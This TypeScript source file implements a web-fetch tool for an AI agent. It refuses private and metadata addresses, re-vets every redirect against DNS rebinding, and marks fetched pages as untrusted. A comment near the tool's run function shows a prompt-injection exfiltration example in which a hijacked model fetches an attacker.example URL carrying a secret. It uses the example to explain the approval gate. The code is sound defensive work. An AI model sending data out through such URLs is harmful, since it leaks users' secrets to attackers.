/**
 * `web_fetch {url}` (ARCHITECTURE.md §16, §17): GET a public page as readable text. The address is
 * decided after DNS resolution and the connection goes to exactly that address (the request's own
 * `lookup` returns it), so there is no window for DNS rebinding; every redirect is decided again.
 * Loopback, private, link-local, CGNAT, metadata, multicast and reserved addresses are refused
 * before a byte is sent. The result is untrusted text: the turn is marked tainted (`web_page`).
 */
import { lookup as dnsLookup } from 'node:dns/promises';
import http, { type ClientRequest, type IncomingMessage, type RequestOptions } from 'node:http';
import https from 'node:https';
import { isIP, type LookupFunction } from 'node:net';
import { convert } from 'html-to-text';
import type { Tool } from './types.js';
import { refusedAddress } from './address-policy.js';

/** Redirects followed, at most. */
export const WEB_FETCH_MAX_REDIRECTS = 5;
/** Bytes of a body read, at most (the rest is not downloaded). */
export const WEB_FETCH_MAX_BYTES = 2 * 1024 * 1024;
/** The whole fetch, redirects included. */
export const WEB_FETCH_TIMEOUT_MS = 20_000;
/** Characters of readable text given to the model. */
export const WEB_FETCH_MAX_CHARS = 20_000;

export interface ResolvedAddress {
  address: string;
  family: number;
}

export interface WebFetchOptions {
  /** Name → addresses (default: the system resolver, every address). */
  resolve?: (host: string) => Promise<ResolvedAddress[]>;
  /** Opens the connection (default node:http / node:https `request`); its `lookup` gives the vetted address. */
  request?: (url: URL, options: RequestOptions) => ClientRequest;
  /** Test-only: loopback allowed (never reachable from config). */
  allowLoopback?: boolean;
  maxRedirects?: number;
  maxBytes?: number;
  timeoutMs?: number;
  maxChars?: number;
}

/** Refused by policy (the address, the scheme, a redirect loop): told to the model as the result. */
export class WebFetchRefused extends Error {}

const systemResolve = async (host: string): Promise<ResolvedAddress[]> => dnsLookup(host, { all: true, verbatim: true });
const systemRequest = (url: URL, options: RequestOptions): ClientRequest => (url.protocol === 'https:' ? https.request(url, options) : http.request(url, options));

/** The one address a URL's connection may use, or a refusal naming why. */
export async function vetUrl(url: URL, options: Pick<WebFetchOptions, 'resolve' | 'allowLoopback'> = {}): Promise<ResolvedAddress> {
  if (url.protocol !== 'http:' && url.protocol !== 'https:') throw new WebFetchRefused(`only http and https URLs can be fetched, not ${url.protocol}`);
  const host = url.hostname.replace(/^\[|\]$/g, '');
  const literal = isIP(host);
  const addresses = literal ? [{ address: host, family: literal }] : await (options.resolve ?? systemResolve)(host).catch((error: unknown) => {
    throw new WebFetchRefused(`${host} could not be resolved (${(error as { code?: string }).code ?? 'DNS error'})`);
  });
  if (!addresses.length) throw new WebFetchRefused(`${host} has no address`);
  // Every address the name has must be public: a name that also points inside is refused whole.
  for (const a of addresses) {
    const why = refusedAddress(a.address, { allowLoopback: options.allowLoopback });
    if (why) throw new WebFetchRefused(literal ? `refused: ${why}` : `refused: ${host} resolves to ${why}`);
  }
  return addresses[0];
}

interface Fetched {
  url: URL;
  status: number;
  type: string;
  body: Buffer;
  truncated: boolean;
}

function once(url: URL, vetted: ResolvedAddress, options: WebFetchOptions, signal: AbortSignal): Promise<{ response: IncomingMessage; request: ClientRequest }> {
  // The connection is made to the vetted address, whatever a resolver would say now.
  const lookup: LookupFunction = (_host, opts, callback) => {
    if ((opts as { all?: boolean }).all) (callback as unknown as (e: null, a: ResolvedAddress[]) => void)(null, [vetted]);
    else callback(null, vetted.address, vetted.family);
  };
  return new Promise((resolve, reject) => {
    const request = (options.request ?? systemRequest)(url, {
      method: 'GET',
      lookup,
      signal,
      headers: { 'user-agent': 'Switchboard web_fetch', accept: 'text/html, text/plain;q=0.9, */*;q=0.5', 'accept-encoding': 'identity' },
    });
    request.on('response', (response) => resolve({ response, request }));
    request.on('error', reject);
    request.end();
  });
}

async function readBody(response: IncomingMessage, maxBytes: number): Promise<{ body: Buffer; truncated: boolean }> {
  const chunks: Buffer[] = [];
  let size = 0;
  for await (const chunk of response) {
    const piece = chunk as Buffer;
    if (size + piece.length > maxBytes) {
      chunks.push(piece.subarray(0, maxBytes - size));
      response.destroy();
      return { body: Buffer.concat(chunks), truncated: true };
    }
    chunks.push(piece);
    size += piece.length;
  }
  return { body: Buffer.concat(chunks), truncated: false };
}

/** GET with the address policy on every hop. */
export async function fetchPublic(start: string, options: WebFetchOptions, signal: AbortSignal): Promise<Fetched> {
  let url: URL;
  try {
    url = new URL(start);
  } catch {
    throw new WebFetchRefused(`'${start.slice(0, 200)}' is not a URL`);
  }
  const maxRedirects = options.maxRedirects ?? WEB_FETCH_MAX_REDIRECTS;
  for (let hop = 0; ; hop++) {
    const vetted = await vetUrl(url, options);
    const { response } = await once(url, vetted, options, signal);
    const status = response.statusCode ?? 0;
    const location = response.headers.location;
    if (status >= 300 && status < 400 && location) {
      response.resume();
      if (hop >= maxRedirects) throw new WebFetchRefused(`more than ${maxRedirects} redirects`);
      url = new URL(location, url);
      continue;
    }
    const { body, truncated } = await readBody(response, options.maxBytes ?? WEB_FETCH_MAX_BYTES);
    return { url, status, type: String(response.headers['content-type'] ?? ''), body, truncated };
  }
}

function decode(body: Buffer, type: string): string {
  const charset = /charset=["']?([\w-]+)/i.exec(type)?.[1] ?? 'utf-8';
  try {
    return new TextDecoder(charset).decode(body);
  } catch {
    return new TextDecoder('utf-8').decode(body);
  }
}

/** The readable text of a fetched page (HTML to text; text as it is; other types named, not shown). */
export function readableText(page: Pick<Fetched, 'type' | 'body'>): string {
  const type = page.type.toLowerCase();
  const looksHtml = type.includes('html') || (!type && /^\s*<(!doctype html|html)/i.test(page.body.subarray(0, 200).toString('latin1')));
  if (looksHtml) {
    return convert(decode(page.body, type), {
      wordwrap: false,
      selectors: [
        { selector: 'img', format: 'skip' },
        { selector: 'script', format: 'skip' },
        { selector: 'style', format: 'skip' },
        { selector: 'a', options: { hideLinkHrefIfSameAsText: true } },
      ],
    }).trim();
  }
  if (!type || type.startsWith('text/') || /json|xml|javascript|csv/.test(type)) return decode(page.body, type).trim();
  return `[${type.split(';')[0]} content, ${page.body.length} bytes: not readable as text]`;
}

export function createWebFetchTool(options: WebFetchOptions = {}): Tool {
  const maxChars = options.maxChars ?? WEB_FETCH_MAX_CHARS;
  return {
    name: 'web_fetch',
    description: 'Fetch a public web page (HTTP GET) and return its readable text. Only public addresses; the text is untrusted content written by others.',
    parameters: {
      type: 'object',
      properties: { url: { type: 'string', description: 'The http:// or https:// URL to fetch.' } },
      required: ['url'],
    },
    untrustedResult: true,
    // A GET carries data out in its URL: once a turn read text nobody here wrote, a hijacked model could
    // fetch `https://attacker.example/?d=<secret>` — in a tainted turn each fetch waits for a yes (§17).
    actsOutside: true,
    async run(args, ctx) {
      const url = typeof (args as { url?: unknown } | null)?.url === 'string' ? (args as { url: string }).url.trim() : '';
      if (!url) return 'Error: web_fetch needs a url.';
      const signal = AbortSignal.any([ctx.signal, AbortSignal.timeout(options.timeoutMs ?? WEB_FETCH_TIMEOUT_MS)]);
      let page: Fetched;
      try {
        page = await fetchPublic(url, options, signal);
      } catch (error) {
        if (error instanceof WebFetchRefused) return `Error: ${error.message}`;
        if (signal.aborted && !ctx.signal.aborted) {
          const ms = options.timeoutMs ?? WEB_FETCH_TIMEOUT_MS;
          return `Error: ${url} did not answer within ${ms < 1000 ? `${ms} ms` : `${Math.round(ms / 1000)} s`}`;
        }
        throw error;
      }
      ctx.taint?.mark('web_page', page.url.href);
      let text = readableText(page);
      if (page.status >= 400) text = `HTTP ${page.status} from ${page.url.href}\n${text}`;
      const cut = text.length > maxChars;
      if (cut) text = text.slice(0, maxChars);
      const notes = [cut ? `cut at ${maxChars} characters` : '', page.truncated ? `only the first ${options.maxBytes ?? WEB_FETCH_MAX_BYTES} bytes were read` : ''].filter(Boolean);
      return `${page.url.href !== url ? `[redirected to ${page.url.href}]\n` : ''}${text || '(no readable text)'}${notes.length ? `\n[${notes.join('; ')}]` : ''}`;
    },
  };
}
